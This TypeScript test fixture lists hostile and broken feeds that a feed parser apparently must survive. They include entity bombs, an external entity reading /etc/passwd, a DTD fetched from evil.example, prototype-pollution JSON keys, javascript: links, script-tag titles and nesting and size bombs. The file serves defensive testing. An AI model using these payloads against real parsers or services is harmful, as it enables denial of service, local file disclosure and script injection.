/** Feeds that mean harm, and ordinary ones that something went wrong with: what each must still give. */

export interface Hostile {
  readonly name: string;
  /** Made when it is needed: together they are half a gigabyte. */
  readonly body: () => string | Uint8Array;
  /** Titles of the entries that are read, or the problem that is told. */
  readonly titles: readonly string[] | 'not-a-feed' | 'feed-broken';
  /** Where there are too many to name. */
  readonly count?: number;
  /** Must stand nowhere in what is read. */
  readonly never?: string;
  /** Where the entries lead, where that is the point. */
  readonly links?: readonly string[];
}

const item = (title: string, rest = '') => `<item><title>${title}</title>${rest}</item>`;
const before = item('Before', '<link>https://a.example/1</link>');
const after = item('After', '<link>https://a.example/2</link>');
const rss = (inner: string, head = '') =>
  `${head}<rss version="2.0"><channel><title>T</title>${inner}</channel></rss>`;
/** A good entry, what means harm, a good entry. */
const between = (inner: string) => rss(before + inner + after);
const atom = (inner: string, attributes = '') =>
  `<feed xmlns="http://www.w3.org/2005/Atom" ${attributes}><title>T</title>${inner}</feed>`;
const entry = (title: string, rest = '') => `<entry><title>${title}</title>${rest}</entry>`;
const many = (count: number, make: (i: number) => string) =>
  Array.from({ length: count }, (_, i) => make(i)).join('');
const both = ['Before', 'After'];
const around = (title: string) => ['Before', title, 'After'];
const utf8 = (text: string) => new TextEncoder().encode(text);

const lol = many(9, (i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`);

export const hostileFeeds: readonly Hostile[] = [
  // Entities and declarations.
  {
    name: 'a billion laughs',
    body: () => rss(before + item('x&l9;y'), `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY l0 "lol">${lol}]>`),
    titles: ['Before', 'x&l9;y'],
  },
  {
    name: 'one long entity named 100,000 times',
    body: () =>
      rss(
        before + item('Bomb', `<description>${'&a;'.repeat(100_000)}</description>`),
        `<!DOCTYPE r [<!ENTITY a "${'x'.repeat(100_000)}">]>`,
      ),
    titles: ['Before', 'Bomb'],
    never: 'xxxx',
  },
  {
    name: 'a file as an entity',
    body: () => rss(item('x&f;y'), '<!DOCTYPE r [<!ENTITY f SYSTEM "file:///etc/passwd">]>'),
    titles: ['x&f;y'],
    never: 'root:',
  },
  {
    name: 'entities that a server elsewhere should give',
    body: () => rss(before, '<!DOCTYPE r [<!ENTITY % d SYSTEM "https://evil.example/x.dtd">%d;]>'),
    titles: ['Before'],
  },
  {
    name: 'a doctype that never ends',
    body: () => `<!DOCTYPE r [${'<!ENTITY a "b" '.repeat(100_000)}`,
    titles: 'not-a-feed',
  },
  {
    name: 'half a million character references',
    body: () => between(item('R', `<description>${'&#65;'.repeat(500_000)}</description>`)),
    titles: around('R'),
  },
  {
    name: 'references to characters that are none',
    body: () => between(item('&#0;&#xd800;&#x110000;&#99999999999;ok')),
    titles: around('\ufffd\ufffd\ufffd\ufffdok'),
  },
  {
    name: 'a reference a million digits long',
    body: () => between(item('R', `<description>&#${'1'.repeat(1_000_000)};</description>`)),
    titles: around('R'),
  },
  {
    name: 'a million ampersands',
    body: () => between(item('R', `<description>${'&'.repeat(1_000_000)}</description>`)),
    titles: around('R'),
  },

  // Nesting.
  {
    name: 'elements 200,000 deep, closed',
    body: () =>
      between(item('D', `<description>${'<a>'.repeat(200_000)}x${'</a>'.repeat(200_000)}</description>`)),
    titles: around('D'),
  },
  {
    name: 'elements 200,000 deep, left open',
    body: () => between(item('D', `<description>${'<a>'.repeat(200_000)}</description>`)),
    titles: around('D'),
  },
  {
    name: 'elements 200,000 deep, closed by the wrong tag',
    body: () => between(item('D', `${'<a>'.repeat(200_000)}${'</b>'.repeat(200_000)}`)),
    titles: around('D'),
  },
  {
    name: 'a million elements each with its own name, all open',
    body: () =>
      rss(
        before +
          item(
            'D',
            many(1_000_000, (i) => `<e${i}>`),
          ),
      ),
    titles: ['Before', 'D'],
  },
  {
    name: 'escaped markup 200,000 deep',
    body: () => between(item('D', `<description>${'&lt;div&gt;'.repeat(200_000)}</description>`)),
    titles: around('D'),
  },
  {
    name: 'a title 100,000 deep',
    body: () => between(item(`${'<b>'.repeat(100_000)}Deep`)),
    titles: both.toSpliced(1, 0, 'Deep'),
  },
  {
    name: 'XHTML 50,000 deep',
    body: () =>
      atom(
        entry('Before') +
          entry(
            'D',
            `<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">${'<div>'.repeat(50_000)}x${'</div>'.repeat(50_000)}</div></content>`,
          ) +
          entry('After'),
      ),
    titles: around('D'),
  },
  {
    name: 'a hundred thousand media groups in each other',
    body: () => between(item('D', `${'<media:group>'.repeat(100_000)}`)),
    titles: around('D'),
  },
  {
    name: 'two million closing tags of nothing',
    body: () => between('</b>'.repeat(2_000_000)),
    titles: both,
  },
  {
    name: 'items that never end',
    body: () => `<rss><channel>${many(3, (i) => `<item><title>${i}</title><description>x`)}`,
    titles: ['0', '1', '2'],
  },
  {
    name: 'titles and links that never end',
    body: () =>
      rss(
        '<item><title>One<link>https://a.example/1<guid>g1<pubDate>1 Jan 2026</item><item><title>Two<description>x</item>',
      ),
    titles: ['One', 'Two'],
  },
  {
    name: 'tags that cross each other',
    body: () => between('<item><title><b>Cross<i></b></title></i><description></item>'),
    titles: around('Cross'),
  },

  // Size and number.
  {
    name: '50 MB of entries',
    body: () =>
      rss(before + many(50, () => item('Big', `<description>${'x'.repeat(1_000_000)}</description>`))),
    titles: [],
    count: 11,
  },
  { name: '100,000 entries', body: () => rss(many(100_000, (i) => item(String(i)))), titles: [], count: 500 },
  {
    name: '100,000 entries of Atom',
    body: () => atom(many(100_000, (i) => entry(String(i)))),
    titles: [],
    count: 500,
  },
  {
    name: '100,000 items of JSON',
    body: () =>
      JSON.stringify({ items: Array.from({ length: 100_000 }, (_, i) => ({ id: i, title: `${i}` })) }),
    titles: [],
    count: 500,
  },
  {
    name: 'a title of 9 MB',
    body: () => between(item('T'.repeat(9_000_000))),
    titles: around('T'.repeat(1000)),
  },
  {
    name: 'a title of 4 MB of markup',
    body: () => between(item('&lt;b&gt;x&lt;/i&gt;'.repeat(200_000))),
    titles: around('x'.repeat(1000)),
  },
  {
    name: 'a guid of 5 MB',
    body: () => between(item('G', `<guid>${'g'.repeat(5_000_000)}</guid>`)),
    titles: around('G'),
  },
  {
    name: 'a link of 5 MB',
    body: () => between(item('L', `<link>https://a.example/${'l'.repeat(5_000_000)}</link>`)),
    titles: around('L'),
  },
  {
    name: 'a text of 8 MB',
    body: () => between(item('B', `<description>${'word '.repeat(1_600_000)}</description>`)),
    titles: around('B'),
  },
  {
    name: '200,000 pictures in one entry',
    body: () =>
      between(
        item(
          'P',
          many(100_000, (i) => `<media:content url="javascript:${i}" medium="image"/>`),
        ),
      ),
    titles: around('P'),
  },
  {
    name: 'a date of a million digits',
    body: () => between(item('D', `<pubDate>${'1 '.repeat(500_000)}</pubDate>`)),
    titles: around('D'),
  },
  {
    name: 'an author of a million at signs',
    body: () => between(item('A', `<author>${'@'.repeat(1_000_000)}</author>`)),
    titles: around('A'),
  },
  {
    name: 'a million categories',
    body: () => between(item('C', '<category/>'.repeat(250_000))),
    titles: around('C'),
  },

  // Attributes and names.
  {
    name: 'a million attributes',
    body: () => rss(`${before}<item ${many(700_000, (i) => `a${i}="1" `)}><title>A</title></item>${after}`),
    titles: around('A'),
  },
  {
    name: 'one attribute a million times',
    body: () => between(`<item ${'a="1" '.repeat(1_000_000)}><title>A</title></item>`),
    titles: around('A'),
  },
  {
    name: 'an attribute of 8 MB',
    body: () => between(`<item about="${'x'.repeat(8_000_000)}"><title>A</title></item>`),
    titles: around('A'),
  },
  {
    name: 'an attribute that never ends',
    body: () => rss(`${before}<item about="${'x'.repeat(1_000_000)}`),
    titles: ['Before'],
  },
  {
    name: '5,000 prefixes on 20,000 elements',
    body: () =>
      `<rss ${many(5000, (i) => `xmlns:a${i}="u" `)}><channel>${before}${'<b xmlns:z="u"/>'.repeat(20_000)}${after}`,
    titles: both,
  },
  {
    name: '98 prefixes on 290,000 elements that declare one more',
    body: () =>
      `<rss ${many(98, (i) => `xmlns:a${i}="u" `)}><channel>${before}${'<b xmlns:z="u"/>'.repeat(290_000)}${after}`,
    titles: both,
  },
  {
    name: 'prefixes declared one in another, round 290,000 elements that declare one more',
    body: () =>
      `<rss><channel>${before}${many(98, (i) => `<c xmlns:a${i}="u">`)}${'<b xmlns:z="u"/>'.repeat(290_000)}${'</c>'.repeat(98)}${after}`,
    titles: both,
  },
  {
    name: 'a new base address on every entry',
    body: () =>
      atom(
        many(2000, (i) => `<entry xml:base="c${i}/"><title>t</title></entry>`),
        `xml:base="https://a.example/${'b'.repeat(500_000)}/"`,
      ),
    titles: [],
    count: 500,
  },
  {
    name: 'a base address that is a script',
    body: () => atom(entry('B', '<link href="javascript:alert(1)"/>'), 'xml:base="javascript:"'),
    titles: ['B'],
    never: 'javascript',
  },
  {
    name: 'names that every object has, as elements',
    body: () =>
      between('<item><title>P</title><__proto__>x</__proto__><constructor>x</constructor><toString/></item>'),
    titles: around('P'),
  },
  {
    name: 'names that every object has, as attributes',
    body: () => between('<item __proto__="x" constructor="y" hasOwnProperty="z"><title>P</title></item>'),
    titles: around('P'),
  },
  {
    name: 'names that every object has, as prefixes',
    body: () =>
      `<rss xmlns:__proto__="u" xmlns:constructor="http://purl.org/dc/elements/1.1/"><channel>${before}<__proto__:item/>${item('P', '<constructor:creator>x</constructor:creator>')}`,
    titles: ['Before', 'P'],
  },
  {
    name: 'names that every object has, as keys of JSON',
    body: () =>
      '{"__proto__":{"polluted":1},"constructor":{},"items":[{"id":"1","title":"P","__proto__":{"title":"Q"}}]}',
    titles: ['P'],
    never: 'polluted',
  },

  // Sections that never end, and cut-off bodies.
  {
    name: 'a CDATA section that never ends',
    body: () => rss(`${before}<item><title>C</title><description><![CDATA[${'x ]] > '.repeat(500_000)}`),
    titles: ['Before', 'C'],
  },
  {
    name: 'a comment that never ends',
    body: () => rss(`${before}<!-- ${'- '.repeat(1_000_000)}`),
    titles: ['Before'],
  },
  {
    name: 'a million sections that end at once',
    body: () => between(item('C', `<description>${'<![CDATA[x]]>'.repeat(300_000)}</description>`)),
    titles: around('C'),
  },
  {
    name: 'a million opening brackets',
    body: () => rss(`${before}<item><title>B</title>${'<'.repeat(1_000_000)}`),
    titles: ['Before', 'B'],
  },
  {
    name: 'an instruction that never ends',
    body: () => rss(`${before}<?php ${'x '.repeat(500_000)}`),
    titles: ['Before'],
  },
  { name: 'a body cut off inside a tag', body: () => rss(before + after).slice(0, -40), titles: both },
  {
    name: 'JSON cut off inside an item',
    body: () => '{"title":"T","items":[{"id":"1","title":"Before"},{"id":"2","title":"After"},{"id":"3","ti',
    titles: both,
  },
  { name: 'JSON of 100,000 brackets', body: () => `{"items":${'['.repeat(100_000)}`, titles: 'feed-broken' },
  {
    name: 'JSON cut off in a million escapes',
    body: () => `{"items":[{"title":"Before"},{"title":"${'\\"'.repeat(1_000_000)}`,
    titles: ['Before'],
  },
  {
    name: 'JSON with the wrong types everywhere',
    body: () =>
      '{"title":{},"items":[7,null,[],{"id":{},"title":["x"],"url":9,"authors":"a","date_published":{},"content_html":1},{"id":"2","title":"After"}]}',
    titles: ['', 'After'],
  },

  // What is no text.
  { name: 'NUL between the letters of a title', body: () => between(item('N\0u\0l')), titles: around('Nul') },
  {
    name: 'a million NULs before the feed',
    body: () => '\0'.repeat(1_000_000) + rss(before),
    titles: ['Before'],
  },
  {
    name: 'the head of a gzip file',
    body: () =>
      Uint8Array.from({ length: 100_000 }, (_, i) => [0x1f, 0x8b, 8, 0][i] ?? (i * 7919 + (i >> 3)) & 255),
    titles: 'not-a-feed',
  },
  {
    name: 'bytes of no encoding inside a feed',
    body: () =>
      Uint8Array.from([
        ...utf8(`<rss><channel>${before}<item><title>`),
        0xff,
        0xfe,
        0xc0,
        0x80,
        ...utf8(`B</title></item>${after}`),
      ]),
    titles: around('ÿþÀ€B'),
  },
  { name: 'nothing', body: () => '', titles: 'not-a-feed' },
  { name: 'spaces without end', body: () => ' '.repeat(5_000_000), titles: 'not-a-feed' },
  {
    name: 'a page that quotes a feed',
    body: () => `<html><body><pre>${rss(before)}</pre></body></html>`,
    titles: 'not-a-feed',
  },
  {
    name: 'a warning of 2 MB before the feed',
    body: () => `${'Warning: { [ mysql '.repeat(100_000)}${rss(before)}`,
    titles: ['Before'],
  },

  // What should never be shown or followed.
  {
    name: 'a script in a title, which is text like any other',
    body: () => between(item('<![CDATA[<script>alert(1)</script>]]>')),
    titles: around('<script>alert(1)</script>'),
  },
  {
    name: 'a script in a title, escaped twice',
    body: () => between(item('&amp;lt;script&amp;gt;x')),
    titles: around('<script>x'),
  },
  {
    name: 'links that are scripts, however they are written',
    body: () =>
      rss(
        many(1, () =>
          item(
            'J',
            '<link> java\nscript:alert(1)</link><guid>JaVaScRiPt:alert(1)</guid><enclosure url="data:text/html,x" type="image/png"/>',
          ),
        ),
      ),
    titles: ['J'],
    never: '"link":"j',
  },
  {
    name: 'a title that turns itself round',
    body: () => between(item('\u202egnp.exe\u202c\u2066x\u200b\u0007')),
    titles: around('gnp.exex'),
  },
  {
    name: 'a title of line ends',
    body: () => between(item(`Up${'\n'.repeat(10_000)}down`)),
    titles: around('Up down'),
  },
];
